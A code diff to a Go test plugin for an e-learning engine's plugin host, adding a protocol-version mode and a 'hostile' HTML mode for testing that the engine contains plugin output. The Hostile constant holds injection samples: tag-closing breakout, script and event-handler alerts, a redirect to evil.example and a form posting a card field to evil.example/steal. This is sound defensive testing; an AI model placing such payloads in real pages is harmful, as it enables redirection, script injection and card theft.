@@ -1,17 +1,23 @@
 // Command testplugin is a content type that exists to test the SDK and the
 // engine's plugin host over a real process: its events make it answer,
-// refuse, panic, hang or die on request.
+// refuse, panic, hang or die on request, and TESTPLUGIN_PROTOCOL=N makes it
+// speak another protocol version and TESTPLUGIN_HTML=hostile makes it
+// return HTML that tries to break out of its container.
 package main
 
 import (
 	"context"
 	"encoding/json"
 	"os"
+	"strconv"
 	"strings"
 	"time"
 
+	goplugin "github.com/hashicorp/go-plugin"
+
 	"github.com/lode-elearning/lode/sdk"
 	"github.com/lode-elearning/lode/sdk/plugin"
+	"github.com/lode-elearning/lode/sdk/pluginclient"
 )
 
 type echo struct{}
@@ -43,7 +49,18 @@ func (echo) Validate(_ context.Context, req *sdk.ValidateRequest) (*sdk.Validate
 	return &sdk.ValidateResponse{}, nil
 }
 
+// Hostile is the HTML the plugin returns when TESTPLUGIN_HTML=hostile: a
+// fragment that tries to leave its container and take over the page.
+const Hostile = `<p id="inside">inside</p></div></section></main></body>` +
+	`<p id="escaped">escaped</p><meta http-equiv="refresh" content="0;url=https://evil.example/">` +
+	`<script>alert(1)</script><style>body{display:none}</style>` +
+	`<form id="steal" action="https://evil.example/steal" method="post"><input name="card"></form>` +
+	`<img id="img" src="x.png" onerror="alert(2)"><a id="js" href="javascript:alert(3)">x</a><div><p id="open">unclosed`
+
 func (echo) Render(_ context.Context, req *sdk.RenderRequest) (*sdk.RenderResponse, error) {
+	if os.Getenv("TESTPLUGIN_HTML") == "hostile" {
+		return &sdk.RenderResponse{HTML: Hostile}, nil
+	}
 	return &sdk.RenderResponse{
 		HTML:        `<p>` + req.Object.Title + `: ` + string(req.State) + `</p><form data-lode-event="ping"><button>Ping</button></form>`,
 		Assets:      []string{"echo.css"},
@@ -78,7 +95,7 @@ func (echo) Handle(ctx context.Context, req *sdk.HandleRequest) (*sdk.HandleResp
 	return &sdk.HandleResponse{
 		State:        state,
 		Result:       &sdk.Result{Completion: sdk.Bool(true), Score: &sdk.Score{Raw: 1, Max: 1, Scaled: 1}},
-		FeedbackHTML: "<p>pong</p>",
+		FeedbackHTML: feedback(),
 		Statements: []sdk.StatementDraft{
 			{Verb: sdk.VerbInteracted, Activity: &sdk.Activity{IDSuffix: "/ping", Definition: json.RawMessage(`{"type":"` + sdk.ActivityInteraction + `"}`)},
 				Result: &sdk.Result{Response: string(req.Event.Data)}, ContextExtensions: json.RawMessage(`{"https://example.org/session":"` + req.SessionID + `"}`)},
@@ -97,4 +114,31 @@ func (echo) Asset(_ context.Context, name string) (*sdk.Asset, error) {
 	return nil, sdk.Invalidf("no asset %q", name)
 }
 
-func main() { plugin.Serve(echo{}) }
+func main() {
+	if v := os.Getenv("TESTPLUGIN_PROTOCOL"); v != "" {
+		serveProtocol(v)
+		return
+	}
+	plugin.Serve(echo{})
+}
+
+// serveProtocol speaks only content-type protocol version v, as a plugin
+// built with another SDK would, to test that the engine refuses it.
+func serveProtocol(v string) {
+	n, err := strconv.Atoi(v)
+	if err != nil {
+		panic(err)
+	}
+	goplugin.Serve(&goplugin.ServeConfig{
+		HandshakeConfig:  pluginclient.Handshake,
+		VersionedPlugins: map[int]goplugin.PluginSet{n: {pluginclient.PluginName: &pluginclient.GRPCPlugin{Impl: echo{}}}},
+		GRPCServer:       goplugin.DefaultGRPCServer,
+	})
+}
+
+func feedback() string {
+	if os.Getenv("TESTPLUGIN_HTML") == "hostile" {
+		return Hostile
+	}
+	return "<p>pong</p>"
+}
